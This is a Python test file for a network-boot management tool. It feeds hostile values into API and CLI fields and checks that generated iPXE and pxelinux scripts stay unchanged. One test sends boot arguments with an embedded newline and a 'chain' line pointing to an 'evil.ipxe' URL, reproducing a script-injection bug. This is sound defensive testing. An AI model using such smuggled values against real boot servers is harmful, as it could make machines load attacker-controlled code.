"""The name test (issue 11 #1): every name and text field, with hostile values, through the API
(real server on loopback, admin token) and the CLI (local). A value is either refused (4xx / exit 2)
or accepted without changing any rendered script by a single line.

To cover a new field, add a row to FIELDS: how the API and the CLI send a value, and a harmless
value that must be accepted (so a row that cannot reach its validator fails instead of passing).
Image, tag and version names go through the same `check_name` as the profile's image and ref rows
(an image route without an image answers 404 whatever the name, so it proves nothing here).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Callable
from urllib.parse import quote

import pytest

from hostile_support import HOSTILE, KNOWN_MAC, api_client, rendered_scripts
from netslate.context import Context
from nstest import run_cli, start_server


@dataclass(frozen=True)
class Field:
    name: str
    method: str | None = None  # API
    path: str | Callable[[str], str] | None = None
    body: Callable[[str], dict] | None = None
    cli: Callable[[str], list[str]] | None = None  # CLI args (local mode)
    ok: str = "ok1"  # a harmless value the same channel accepts
    cleanup: Callable[[str], tuple[str, str]] | None = None  # (method, path) that removes what `ok` made
    free_text: bool = False  # True: may accept (trimmed or as prose) if no script changes; else every value is refused


def _q(v: str) -> str:
    return quote(v, safe="")


def _mac(v: str) -> str:
    """A MAC of its own per value, so rules never tie with each other."""
    import hashlib

    d = hashlib.sha256(v.encode()).digest()
    return "52:54:01:" + ":".join(f"{b:02x}" for b in d[:3])


FIELDS: list[Field] = [
    Field("site name", "POST", "/api/v1/sites", lambda v: {"name": v},
          lambda v: ["site", "add", v]),
    Field("site description", "POST", "/api/v1/sites", lambda v: {"name": "sdesc", "description": v},
          lambda v: ["site", "add", "sdesc2", "--description", v], cleanup=lambda v: ("DELETE", "/api/v1/sites/sdesc"), free_text=True),
    Field("profile name", "POST", "/api/v1/boot/profiles", lambda v: {"name": v, "kind": "local"},
          lambda v: ["boot", "profile", "add", v, "--kind", "local"]),
    Field("kernel argument", "POST", "/api/v1/boot/profiles",
          lambda v: {"name": "pargs", "kind": "image", "image": "demo", "ref": "1", "args": [v], "replace": True},
          lambda v: ["boot", "profile", "add", "pargs2", "--image", "demo", "--ref", "1", "--arg", v, "--replace"], ok="quiet"),
    Field("profile console", "POST", "/api/v1/boot/profiles",
          lambda v: {"name": "pcons", "kind": "image", "image": "demo", "ref": "1", "console": v, "replace": True},
          lambda v: ["boot", "profile", "add", "pcons2", "--image", "demo", "--ref", "1", "--console", v, "--replace"], ok="ttyS0"),
    Field("profile image name", "POST", "/api/v1/boot/profiles",
          lambda v: {"name": "pimg", "kind": "image", "image": v, "ref": "1", "replace": True},
          lambda v: ["boot", "profile", "add", "pimg2", "--image", v, "--ref", "1", "--replace"]),
    Field("profile ref (tag)", "POST", "/api/v1/boot/profiles",
          lambda v: {"name": "pref", "kind": "image", "image": "demo", "ref": v, "replace": True},
          lambda v: ["boot", "profile", "add", "pref2", "--image", "demo", "--ref", v, "--replace"]),
    Field("profile note", "POST", "/api/v1/boot/profiles",
          lambda v: {"name": "pnote", "kind": "local", "note": v, "replace": True},
          lambda v: ["boot", "profile", "add", "pnote2", "--kind", "local", "--note", v, "--replace"], free_text=True),
    Field("rule name", "POST", "/api/v1/boot/rules",
          lambda v: {"name": v, "profile": "hlocal", "selectors": {"mac": _mac(v)}},
          lambda v: ["boot", "rules", "add", v, "--profile", "hlocal", f"mac={_mac(v)}"]),
    Field("rule selector serial", "POST", "/api/v1/boot/rules",
          lambda v: {"name": "rserial", "profile": "hlocal", "selectors": {"serial": v}, "priority": 5, "replace": True},
          lambda v: ["boot", "rules", "add", "rserial2", "--profile", "hlocal", f"serial={v}", "--priority", "5", "--replace"]),
    Field("rule selector label value", "POST", "/api/v1/boot/rules",
          lambda v: {"name": "rlabel", "profile": "hlocal", "selectors": {"label": {"rack": v}}, "priority": 6, "replace": True},
          lambda v: ["boot", "rules", "add", "rlabel2", "--profile", "hlocal", f"label=rack={v}", "--priority", "6", "--replace"]),
    Field("machine name", "POST", "/api/v1/machines", lambda v: {"macs": ["52:54:00:aa:01:01"], "name": v},
          lambda v: ["machine", "add", "--mac", "52:54:00:aa:01:02", "--name", v],
          cleanup=lambda v: ("DELETE", "/api/v1/machines/ok1")),
    Field("hostname", "POST", "/api/v1/machines/known1/labels", lambda v: {"hostname": v},
          lambda v: ["machine", "label", "known1", "--hostname", v], ok="host1"),
    Field("label key", "POST", "/api/v1/machines/known1/labels", lambda v: {"set": {v: "a"}},
          lambda v: ["machine", "label", "known1", f"{v}=a"]),
    Field("label value", "POST", "/api/v1/machines/known1/labels", lambda v: {"set": {"role": v}},
          lambda v: ["machine", "label", "known1", f"role={v}"]),
    Field("machine group", "POST", "/api/v1/machines/known1/labels", lambda v: {"group": "/" + v},
          lambda v: ["machine", "label", "known1", "--group", "/" + v]),
    Field("IP pool name", "POST", "/api/v1/ippools", lambda v: {"name": v, "range": "10.9.0.10-10.9.0.20", "prefix": 24},
          lambda v: ["config", "ippool", "add", v, "--range", "10.9.1.10-10.9.1.20", "--prefix", "24"],
          cleanup=lambda v: ("DELETE", "/api/v1/ippools/ok1")),
    Field("config path", "POST", "/api/v1/config/set", lambda v: {"path": "/" + v, "key": "locale", "value": "C"},
          lambda v: ["config", "set", "/" + v, "locale", "C"]),
    Field("config key (secret name)", "POST", "/api/v1/config/set", lambda v: {"path": "/", "key": "secrets." + v, "value": "v"},
          lambda v: ["config", "set", "/", "secrets." + v, "v"]),
    Field("config value (locale)", "POST", "/api/v1/config/set", lambda v: {"path": "/", "key": "locale", "value": v},
          lambda v: ["config", "set", "/", "locale", v], ok="C.UTF-8", free_text=True),
    Field("token name", "POST", "/api/v1/tokens", lambda v: {"name": v, "role": "viewer"},
          lambda v: ["token", "create", v, "--role", "viewer"],
          cleanup=lambda v: ("DELETE", "/api/v1/tokens/ok1")),
    Field("host name", None, None, None, lambda v: ["host", "add", v, "qemu:///nonexistent"], ok=""),
]

VALUES = sorted(HOSTILE)
# Each CLI run is a new process (~1-3 s): the line-injecting values are covered by lf/cr there,
# and NUL cannot travel in argv.
CLI_VALUES = ["lf", "cr", "dollar", "shebang", "long"]


def _send(c, f: Field, value: str):
    path = f.path(value) if callable(f.path) else f.path
    return c.request(f.method, path, json=f.body(value) if f.body else None)


@pytest.fixture(scope="module")
def baseline(server):
    """A local profile for rules to name, then the scripts as they are before any hostile value."""
    with api_client(server) as c:
        r = c.post("/api/v1/boot/profiles", json={"name": "hlocal", "kind": "local"})
        assert r.status_code in (200, 201), r.text
    return rendered_scripts(server)


@pytest.mark.parametrize("field", [f for f in FIELDS if f.method], ids=lambda f: f.name)
def test_api_refuses_or_keeps_scripts(server, baseline, field):
    outcomes = {}
    with api_client(server) as c:
        if field.ok:  # the channel works: a harmless value goes through
            r = _send(c, field, field.ok)
            assert r.status_code < 300, (field.name, "harmless value refused", r.status_code, r.text[:300])
            if field.cleanup:
                m, p = field.cleanup(field.ok)
                c.request(m, p)
        for key in VALUES:
            r = _send(c, field, HOSTILE[key])
            assert r.status_code < 500, (field.name, key, r.status_code, r.text[:300])
            outcomes[key] = r.status_code
    after = rendered_scripts(server)
    accepted = {k: s for k, s in outcomes.items() if s < 400}
    if not field.free_text:
        assert not accepted, (field.name, "accepted", accepted)
    if accepted:  # accepted values must not have changed a line of any script
        for name in baseline:
            assert after[name].splitlines() == baseline[name].splitlines(), (field.name, accepted, name)
    for name, text in after.items():
        _assert_clean(text, name)


def _assert_clean(text: str, where: str) -> None:
    assert "evil.ipxe" not in text, where
    assert "\r" not in text and "\0" not in text, where
    assert "x" * 300 not in text, where
    assert not re.search(r"\$\{x\}", text), where


@pytest.mark.parametrize("field", [f for f in FIELDS if f.cli], ids=lambda f: f.name)
def test_cli_refuses_or_keeps_scripts(tmp_path, field):
    """Local CLI: every hostile value of CLI_VALUES exits 2 with one line and no
    traceback, or exits 0 without changing a line of any script (rendered by a server over the
    same data directory)."""
    data = tmp_path / "data"
    assert run_cli("boot", "profile", "add", "hlocal", "--kind", "local", data_dir=data).code == 0
    assert run_cli("machine", "add", "--mac", KNOWN_MAC, "--name", "known1", data_dir=data).code == 0
    srv = start_server(Context(data).init())
    try:
        before = rendered_scripts(srv)
        codes = {}
        for key in CLI_VALUES:
            value = HOSTILE[key]
            r = run_cli(*field.cli(value), data_dir=data, timeout=120)
            assert r.code in (0, 2), (field.name, key, r.code, r.stdout[-500:], r.stderr[-500:])
            assert "Traceback" not in r.stderr, (field.name, key, r.stderr[-2000:])
            codes[key] = r.code
        after = rendered_scripts(srv)
    finally:
        srv.stop()
    if not field.free_text:
        assert all(code == 2 for code in codes.values()), (field.name, codes)
    if any(code == 0 for code in codes.values()):
        for name in before:
            assert after[name].splitlines() == before[name].splitlines(), (field.name, codes, name)
    for name, text in after.items():
        _assert_clean(text, name)


def test_profile_args_cannot_inject_a_chain_line(server, baseline):
    """The issue's reproduction: args ["quiet\\n", "chain", URL] once put a chain line of its own into
    the iPXE script and a KERNEL line into pxelinux files."""
    with api_client(server) as c:
        r = c.post("/api/v1/boot/profiles", json={"name": "inj", "kind": "image", "image": "demo", "ref": "1",
                                                   "args": ["quiet\n", "chain", "http://127.0.0.1:9/evil.ipxe"]})
        assert 400 <= r.status_code < 500, r.text
        r = c.post("/api/v1/boot/rules", json={"name": "r\n", "profile": "hlocal", "selectors": {"mac": "52:54:00:aa:00:01"}})
        assert 400 <= r.status_code < 500, r.text
    after = rendered_scripts(server)
    for name in baseline:
        assert after[name].splitlines() == baseline[name].splitlines(), name


def test_validators_match_whole_strings():
    """No anchored regex in src/netslate ends in `$` (which also matches before a final newline)."""
    import netslate

    root = Path(netslate.__file__).parent
    pattern = re.compile(r"""re\.(?:compile|match)\(r?(["'])\^.*?\$\1""")
    offenders = []
    for path in sorted(root.rglob("*.py")):
        for n, line in enumerate(path.read_text().splitlines(), 1):
            if pattern.search(line):
                offenders.append(f"{path.relative_to(root)}:{n}: {line.strip()[:100]}")
    assert not offenders, "use \\Z (or fullmatch):\n" + "\n".join(offenders)
